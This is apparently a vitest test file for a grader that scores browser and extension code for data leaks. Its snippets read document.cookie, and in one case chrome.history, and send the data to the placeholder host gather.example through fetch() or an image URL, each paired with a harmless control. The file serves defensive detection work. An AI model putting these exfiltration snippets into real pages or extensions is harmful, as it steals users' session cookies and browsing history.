import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/*
 * What lies in a list or an object is not what it began with: programs whose only way out is the address of one request.
 */

const OUT = "'https://gather.example/c?' + ";

/** A place that is filled after it was made, and the request that takes from it. */
const LATER: readonly (readonly [name: string, program: (data: string) => string])[] = [
  ['a list', (data) => `const list = []; list.push(${data}); fetch(${OUT}list.join('&'));`],
  ['a list, by a function', (data) => `const l = []; function f(to) { to.push(${data}); } f(l); fetch(${OUT}l[0]);`],
  ['a list, by its place', (data) => `const l = ['', '']; l[1] = ${data}; fetch(${OUT}l.join(''));`],
  ['a list, in its midst', (data) => `const l = ['a']; l.splice(0, 0, ${data}); fetch(${OUT}l.join(''));`],
  ['a list, all over', (data) => `const l = ['a', 'b']; l.fill(${data}); fetch(${OUT}l.join(''));`],
  ['a list, by apply', (data) => `const l = []; l.push.apply(l, [${data}]); fetch(${OUT}l.join(''));`],
  ['a property', (data) => `const o = { a: '' }; o.a = ${data}; fetch(${OUT}o.a);`],
  ['a property, by another name', (data) => `const o = { a: '' }, p = o; p.a = ${data}; fetch(${OUT}o.a);`],
  ['a property, by assign', (data) => `const o = { a: '' }; Object.assign(o, { a: ${data} }); fetch(${OUT}o.a);`],
  [
    'all properties',
    (data) =>
      `const o = { a: '' }, l = []; o.a = ${data}; for (const k in o) l.push(k + '=' + o[k]); fetch(${OUT}l.join('&'));`,
  ],
  [
    'an object, by its own method',
    (data) =>
      `const o = { l: [], add(x) { this.l.push(x); }, send() { fetch(${OUT}o.l[0]); } }; o.add(${data}); o.send();`,
  ],
];

const grade = (content: string): Promise<string> => graded({ content });

describe('data that is put later into', () => {
  it.each(LATER)('%s is sent', async (_, program) => {
    expect(await grade(program('document.cookie'))).toBe('F');
    expect(await grade(program("'dark'"))).toMatch(/^A/);
  });
});

describe('a name that goes on with what it held', () => {
  const send = (to: string): string => `
    var app = app || { to: '${to}' };
    app.send = function () { var i = document.createElement('img'); i.setAttribute('src', app.to + document.cookie); };
    app.send();`;

  it('has what it begins with', async () => {
    expect(await grade(send('https://gather.example/c?'))).toBe('F');
    expect(await grade(send('/c?'))).toMatch(/^A/);
  });
});

describe('the list of a function that takes whatever it is given', () => {
  const hooked = (write: string): string =>
    `function hook(...args) { ${write} return args.length; } const box = { v: '' }; hook(box); fetch(${OUT}JSON.stringify(box));`;

  it('is its own, what stands in it is not', async () => {
    expect(await grade(hooked('args[0] = document.cookie;'))).toMatch(/^A/);
    expect(await grade(hooked('args[0].v = document.cookie;'))).toBe('F');
  });

  it('is handed on with what was put into it', async () => {
    const send = `function send(list) { fetch(${OUT}list[0]); }`;
    expect(await grade(`${send} function hook(...args) { args[0] = document.cookie; send(args); } hook('');`)).toBe(
      'F',
    );
  });
});

describe('the address of the page', () => {
  const led = (to: string): Promise<string> =>
    graded({
      popup: `chrome.history.search({ text: '' }, ([first]) => { location.href = ${to}; }); fetch(${OUT}location.href);`,
      manifest: { permissions: ['history'] },
    });

  it('is the next page’s own where the page was left, and holds a fragment that was put into it', async () => {
    expect(await led("first.url.startsWith('chrome:') ? first.url : ''")).toMatch(/^A/);
    expect(await led("'#' + first.url")).toMatch(/^[DF]$/);
  });
});
